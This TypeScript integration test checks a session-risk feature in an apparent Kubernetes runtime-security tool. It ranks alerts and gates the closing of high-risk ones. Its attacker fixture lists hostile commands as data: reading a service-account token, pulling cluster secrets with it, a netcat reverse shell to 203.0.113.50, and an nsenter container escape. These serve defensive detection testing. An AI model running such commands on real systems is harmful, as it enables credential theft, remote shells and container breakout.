/**
 * What the shell did, through the real server: sessions scored when their alert is created, scored again as
 * their commands keep arriving, and the open queue sorted and filtered by the score.
 */
import type { ListAlertsResponse } from '@execwatch/api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bulkBody, processEvent } from '../../testing/events';
import { seedRuleId } from '../../testing/scenario';
import { startTestServer, type TestServer } from '../../testing/test-server';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => server?.close());

/** The shell of a session into `pod` at `at`, then its commands a few seconds apart. */
function session(pod: string, at: number, commands: string[][]): Record<string, unknown>[] {
  const leader = `leader-${pod}`;
  const shell = processEvent({ at, entityId: leader, entryLeaderId: leader, name: 'bash', pod });
  const shellProcess = shell.process as Record<string, unknown>; // built as an object by processEvent
  shellProcess.entry_leader = { ...(shellProcess.entry_leader as Record<string, unknown>), start: new Date(at).toISOString(), args: ['bash'] }; // an object too
  return [shell, ...commands.map((args, i) => childEvent(pod, at, leader, i, args))];
}

function childEvent(pod: string, at: number, leader: string, i: number, args: string[]): Record<string, unknown> {
  const e = processEvent({ at: at + (i + 1) * 3000, entityId: `${leader}-${i}`, parentEntityId: leader, entryLeaderId: leader, entryLeader: false, name: args[0]?.split('/').pop(), args, pod });
  const p = e.process as Record<string, unknown>; // built as an object by processEvent
  p.executable = args[0]?.startsWith('/') ? args[0] : `/usr/bin/${args[0]}`;
  p.entry_leader = { ...(p.entry_leader as Record<string, unknown>), start: new Date(at).toISOString() }; // an object too
  return e;
}

async function ingest(events: Record<string, unknown>[]): Promise<void> {
  const res = await server.request('POST', '/_bulk', { rawBody: bulkBody(events), headers: { 'content-type': 'application/x-ndjson' } });
  expect(res.status).toBe(200);
}

/** Background passes until every live session is scored (a run scores what its time budget allows). */
async function scoreAll(): Promise<void> {
  while ((await server.services.sessionRisk.rescoreLive()) > 0);
}

async function alertsBy(query: string) {
  return (await server.json<ListAlertsResponse>('GET', `/api/alerts?size=100&from=now-1d&${query}`)).body.alerts;
}

const attacker = [
  ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['curl', '-sk', '-H', 'Authorization: Bearer eyJhbGciOi', 'https://kubernetes.default.svc/api/v1/namespaces/default/secrets'],
  ['apt-get', 'install', '-y', 'netcat-openbsd'],
  ['nc', '203.0.113.50', '4444', '-e', '/bin/sh'],
];
const admin = [
  ['env'],
  ['cat', '/etc/nginx/nginx.conf'],
  ['curl', '-s', 'localhost:8080/healthz'],
  ['ps', 'aux'],
];

describe('session risk', () => {
  it('scores each session when its alert is created, with evidence, and ranks the attacker first', async () => {
    const at = server.clock.now() - 50_000;
    await ingest([...session('risk-attacker', at, attacker), ...session('risk-admin', at + 100, admin)]);
    server.clock.advance(1000);
    expect((await server.json('POST', `/api/rules/${seedRuleId}/_run`, { body: { from: 'now-1h' } })).status).toBe(200);
    // a run scores at least its first alert; the rest within its time budget or in the next pass
    expect((await alertsBy('')).some((a) => a.session !== null)).toBe(true);
    await scoreAll();

    const ranked = await alertsBy('sort_field=session_risk&sort_order=desc');
    expect(ranked.map((a) => a.entity.pod)).toEqual(['risk-attacker', 'risk-admin']);
    const [bad, benign] = ranked;
    expect(bad?.session?.risk_score).toBeGreaterThanOrEqual(75);
    expect(benign?.session?.risk_score).toBeLessThan(25);
    const techniques = bad?.session?.behaviors.map((b) => b.technique_id) ?? [];
    expect(techniques).toEqual(expect.arrayContaining(['T1528', 'T1059.004']));
    const reverseShell = bad?.session?.behaviors.find((b) => b.technique_id === 'T1059.004' && b.evidence.some((e) => e.name === 'nc'));
    expect(reverseShell?.evidence[0]?.args).toEqual(['nc', '203.0.113.50', '4444', '-e', '/bin/sh']);

    const risky = await alertsBy('min_session_risk=50');
    expect(risky.map((a) => a.entity.pod)).toEqual(['risk-attacker']);
  });

  it('scores a session again when commands arrive after its alert', async () => {
    const at = server.clock.now() - 50_000;
    await ingest(session('risk-late', at, [['ls', '-la', '/app']]));
    server.clock.advance(1000);
    await server.json('POST', `/api/rules/${seedRuleId}/_run`, { body: { from: 'now-1h' } });
    await scoreAll();
    const [before] = await alertsBy('field.orchestrator.resource.name=risk-late');
    expect(before?.session?.risk_score).toBeLessThan(25);

    expect(await server.services.sessionRisk.rescoreLive()).toBe(0); // nothing new: nothing written
    await ingest([childEvent('risk-late', at, 'leader-risk-late', 5, ['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'sh'])]);
    expect(await server.services.sessionRisk.rescoreLive()).toBe(1);
    const [after] = await alertsBy('field.orchestrator.resource.name=risk-late');
    expect(after?.session?.risk_score).toBeGreaterThan(before?.session?.risk_score ?? 100);
    expect(after?.session?.behaviors.map((b) => b.technique_id)).toContain('T1611');
  });

  it('asks for a comment to close a risky session as a false positive, and for confirmation to bulk-close it', async () => {
    const [risky] = await alertsBy('min_session_risk=50&field.orchestrator.resource.name=risk-attacker');
    if (!risky) throw new Error('the attacker alert is missing');
    const noComment = await server.json<{ error: string; message: string }>('PATCH', `/api/alerts/${risky.id}`, { user: 'analyst', body: { status: 'closed', reason: 'false_positive' } });
    expect(noComment.status).toBe(400);
    expect(noComment.body.error).toBe('high_risk_comment_required');
    expect(noComment.body.message).toMatch(/scored \d+/);
    // with a comment, the risk gate lets it through to the checklist gate
    const commented = await server.json<{ error: string }>('PATCH', `/api/alerts/${risky.id}`, { user: 'analyst', body: { status: 'closed', reason: 'false_positive', reason_text: 'red team exercise RT-12' } });
    expect(commented.body.error).toBe('required_steps_incomplete');

    const query = { query: 'pod:risk-*', from: 'now-1d' };
    const unconfirmed = await server.json<{ error: string; message: string; details: { high_risk: number } }>('POST', '/api/alerts/_bulk_update', { user: 'analyst', body: { query, status: 'closed', reason: 'true_positive' } });
    expect(unconfirmed.status).toBe(409);
    expect(unconfirmed.body).toMatchObject({ error: 'high_risk_confirmation_required', details: { high_risk: 1 } });
    expect(unconfirmed.body.message).toMatch(/1 of these alerts is a session of high risk/);
    expect((await alertsBy('field.orchestrator.resource.name=risk-attacker'))[0]?.workflow_status).toBe('open');

    const confirmed = await server.json<{ updated: number }>('POST', '/api/alerts/_bulk_update', { user: 'analyst', body: { query, status: 'closed', reason: 'true_positive', confirm_high_risk: true } });
    expect(confirmed.status).toBe(200);
    expect(confirmed.body.updated).toBeGreaterThanOrEqual(3);
    expect((await alertsBy('field.orchestrator.resource.name=risk-attacker'))[0]?.workflow_status).toBe('closed');
  });
});
